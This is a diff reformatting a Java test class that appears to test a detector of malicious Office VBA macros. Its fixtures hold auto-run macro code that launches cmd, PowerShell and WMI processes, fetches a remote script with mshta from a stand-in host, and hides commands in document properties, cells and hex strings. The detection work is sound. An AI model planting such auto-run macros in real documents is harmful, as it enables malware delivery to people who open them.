@@ -47,8 +47,15 @@ class VbaTest {
 
     private static Stream<Sample> starts() {
         return Stream.of(
-                word("Shell", "Sub AutoOpen()\nShell \"powershell -enc AAAA\", vbHide\nEnd Sub", "script_starts_interpreter", "hidden_command"),
-                word("Shell as function", "Private Sub Document_Open()\nDim r As Double\nr = Shell(\"cmd /c calc\", 0)\nEnd Sub", "script_starts_interpreter"),
+                word(
+                        "Shell",
+                        "Sub AutoOpen()\nShell \"powershell -enc AAAA\", vbHide\nEnd Sub",
+                        "script_starts_interpreter",
+                        "hidden_command"),
+                word(
+                        "Shell as function",
+                        "Private Sub Document_Open()\nDim r As Double\nr = Shell(\"cmd /c calc\", 0)\nEnd Sub",
+                        "script_starts_interpreter"),
                 word(
                         "WScript.Shell through With",
                         "Sub Document_Open()\nWith CreateObject(\"WScript.Shell\")\n.Run \"cmd.exe /c calc\", 0, False\nEnd With\nEnd Sub",
@@ -107,13 +114,22 @@ class VbaTest {
                         "WMI",
                         "Sub AutoOpen()\nSet o = GetObject(\"winmgmts:root\\cimv2:Win32_Process\")\no.Create \"powershell calc\", Null, Null, p\nEnd Sub",
                         "wmi_process"),
-                excel("workbook", "Private Sub Workbook_Open()\nShell \"mshta http://files.example/a\"\nEnd Sub", "runs_remote_script"),
+                excel(
+                        "workbook",
+                        "Private Sub Workbook_Open()\nShell \"mshta http://files.example/a\"\nEnd Sub",
+                        "runs_remote_script"),
                 new Sample(
                         "Auto_Open in a module, worker in another",
                         Documents.of(
                                 "excel",
-                                new Module("Module1", Kind.STANDARD, "Sub Auto_Open()\nModule2.Go \"cmd\"\nEnd Sub"),
-                                new Module("Module2", Kind.STANDARD, "Public Sub Go(ByVal c As String)\nShell c & \" /c calc\"\nEnd Sub")),
+                                new Module(
+                                        "Module1",
+                                        Kind.STANDARD,
+                                        "Sub Auto_Open()\nModule2.Go \"cmd\"\nEnd Sub"),
+                                new Module(
+                                        "Module2",
+                                        Kind.STANDARD,
+                                        "Public Sub Go(ByVal c As String)\nShell c & \" /c calc\"\nEnd Sub")),
                         "script_starts_interpreter"),
                 excel(
                         "later",
@@ -131,41 +147,77 @@ class VbaTest {
 
     private static Stream<Sample> data() {
         return Stream.of(
-                word("title and comments", "Sub AutoOpen()\nShell ActiveDocument.BuiltInDocumentProperties(\"Title\") & \" \" & ThisDocument.BuiltInDocumentProperties(\"Comments\").Value\nEnd Sub", "script_starts_interpreter"),
-                word("custom property", "Sub AutoOpen()\nShell ActiveDocument.CustomDocumentProperties(\"own\")\nEnd Sub", "script_starts_interpreter"),
+                word(
+                        "title and comments",
+                        "Sub AutoOpen()\nShell ActiveDocument.BuiltInDocumentProperties(\"Title\") & \" \" & ThisDocument.BuiltInDocumentProperties(\"Comments\").Value\nEnd Sub",
+                        "script_starts_interpreter"),
+                word(
+                        "custom property",
+                        "Sub AutoOpen()\nShell ActiveDocument.CustomDocumentProperties(\"own\")\nEnd Sub",
+                        "script_starts_interpreter"),
                 word(
                         "variable in hex",
                         "Sub AutoOpen()\nDim h, s, i\nh = ActiveDocument.Variables(\"payload\").Value\nFor i = 1 To Len(h) Step 2\ns = s & Chr$(Val(\"&H\" & Mid$(h, i, 2)))\nNext i\nShell s & \"http://files.example/a\"\nEnd Sub",
                         "runs_remote_script"),
-                word("paragraph", "Sub AutoOpen()\nDim t As String\nt = ActiveDocument.Paragraphs(1).Range.Text\nShell Left(t, Len(t) - 1)\nEnd Sub", "script_starts_interpreter"),
-                word("alternative text", "Sub AutoOpen()\nShell ActiveDocument.Shapes(\"Picture 1\").AlternativeText\nEnd Sub", "script_starts_interpreter"),
-                word("alternative text by number", "Sub AutoOpen()\nShell Me.InlineShapes(1).AlternativeText\nEnd Sub", "script_starts_interpreter"),
+                word(
+                        "paragraph",
+                        "Sub AutoOpen()\nDim t As String\nt = ActiveDocument.Paragraphs(1).Range.Text\nShell Left(t, Len(t) - 1)\nEnd Sub",
+                        "script_starts_interpreter"),
+                word(
+                        "alternative text",
+                        "Sub AutoOpen()\nShell ActiveDocument.Shapes(\"Picture 1\").AlternativeText\nEnd Sub",
+                        "script_starts_interpreter"),
+                word(
+                        "alternative text by number",
+                        "Sub AutoOpen()\nShell Me.InlineShapes(1).AlternativeText\nEnd Sub",
+                        "script_starts_interpreter"),
                 new Sample(
                         "form",
                         Documents.of(
                                 "word",
-                                new Module("ThisDocument", Kind.DOCUMENT, "Sub AutoOpen()\nShell UserForm1.TextBox1.Text & UserForm1.TextBox1.Tag\nEnd Sub"),
+                                new Module(
+                                        "ThisDocument",
+                                        Kind.DOCUMENT,
+                                        "Sub AutoOpen()\nShell UserForm1.TextBox1.Text & UserForm1.TextBox1.Tag\nEnd Sub"),
                                 new Module("UserForm1", Kind.FORM, "")),
                         "script_starts_interpreter"),
                 new Sample(
                         "form that is shown",
                         Documents.of(
                                 "word",
-                                new Module("ThisDocument", Kind.DOCUMENT, "Sub AutoOpen()\nUserForm1.Show\nEnd Sub"),
-                                new Module("UserForm1", Kind.FORM, "Private Sub UserForm_Initialize()\nShell Label1.Caption & \" -c calc\"\nEnd Sub")),
+                                new Module(
+                                        "ThisDocument",
+                                        Kind.DOCUMENT,
+                                        "Sub AutoOpen()\nUserForm1.Show\nEnd Sub"),
+                                new Module(
+                                        "UserForm1",
+                                        Kind.FORM,
+                                        "Private Sub UserForm_Initialize()\nShell Label1.Caption & \" -c calc\"\nEnd Sub")),
                         "script_starts_interpreter"));
     }
 
     private static Stream<Sample> cells() {
         return Stream.of(
-                excel("cells", "Sub Workbook_Open()\nShell Cells(1, 1) & Range(\"B1\").Value & Sheets(\"Data\").Cells(2, \"A\")\nEnd Sub", "script_starts_interpreter"),
-                excel("short places", "Sub Workbook_Open()\nShell [A1] & [B1] & [A2]\nEnd Sub", "script_starts_interpreter"),
-                excel("another sheet", "Sub Workbook_Open()\nDim w As Worksheet\nFor Each w In ThisWorkbook.Worksheets\nIf w.Name = \"Hidden\" Then Shell w.Range(\"B7\")\nNext w\nEnd Sub", "script_starts_interpreter"),
+                excel(
+                        "cells",
+                        "Sub Workbook_Open()\nShell Cells(1, 1) & Range(\"B1\").Value & Sheets(\"Data\").Cells(2, \"A\")\nEnd Sub",
+                        "script_starts_interpreter"),
+                excel(
+                        "short places",
+                        "Sub Workbook_Open()\nShell [A1] & [B1] & [A2]\nEnd Sub",
+                        "script_starts_interpreter"),
+                excel(
+                        "another sheet",
+                        "Sub Workbook_Open()\nDim w As Worksheet\nFor Each w In ThisWorkbook.Worksheets\nIf w.Name = \"Hidden\" Then Shell w.Range(\"B7\")\nNext w\nEnd Sub",
+                        "script_starts_interpreter"),
                 excel(
                         "all cells in turn",
                         "Sub Workbook_Open()\nDim c As Range, s As String\nFor Each c In Sheets(1).Range(\"A1:B1\")\ns = s & c.Value\nNext\nShell s & Sheets(1).Range(\"A1\").Offset(1, 0)\nEnd Sub",
                         "script_starts_interpreter"),
-                excel("written and read", "Sub Workbook_Open()\nRange(\"D4\").Value = \"cmd /c calc\"\nShell Range(\"D4\").Value\nEnd Sub", "script_starts_interpreter"));
+                excel(
+                        "written and read",
+                        "Sub Workbook_Open()\nRange(\"D4\").Value = \"cmd /c calc\"\nShell Range(\"D4\").Value\nEnd Sub",
+                        "script_starts_interpreter"));
     }
 
     private static Stream<Sample> natives() {
@@ -278,8 +330,14 @@ class VbaTest {
                         "class",
                         Documents.of(
                                 "word",
-                                new Module("Module1", Kind.STANDARD, "Sub AutoOpen()\nDim r As New Runner\nr.Tail = \"calc\"\nr.Go\nEnd Sub"),
-                                new Module("Runner", Kind.CLASS, "Private t As String\nPublic Property Let Tail(v As String)\nt = v\nEnd Property\nPublic Sub Go()\nShell \"cmd /c \" & t\nEnd Sub")),
+                                new Module(
+                                        "Module1",
+                                        Kind.STANDARD,
+                                        "Sub AutoOpen()\nDim r As New Runner\nr.Tail = \"calc\"\nr.Go\nEnd Sub"),
+                                new Module(
+                                        "Runner",
+                                        Kind.CLASS,
+                                        "Private t As String\nPublic Property Let Tail(v As String)\nt = v\nEnd Property\nPublic Sub Go()\nShell \"cmd /c \" & t\nEnd Sub")),
                         "script_starts_interpreter"),
                 word(
                         "xor over a text with Mid as statement",
@@ -343,7 +401,9 @@ class VbaTest {
         MacroDocument stomped =
                 new MacroDocument(
                         "word",
-                        List.of(new Module("ThisDocument", Kind.DOCUMENT, "Sub AutoOpen()\nEnd Sub")),
+                        List.of(
+                                new Module(
+                                        "ThisDocument", Kind.DOCUMENT, "Sub AutoOpen()\nEnd Sub")),
                         Map.of(),
                         Map.of(),
                         Map.of(),
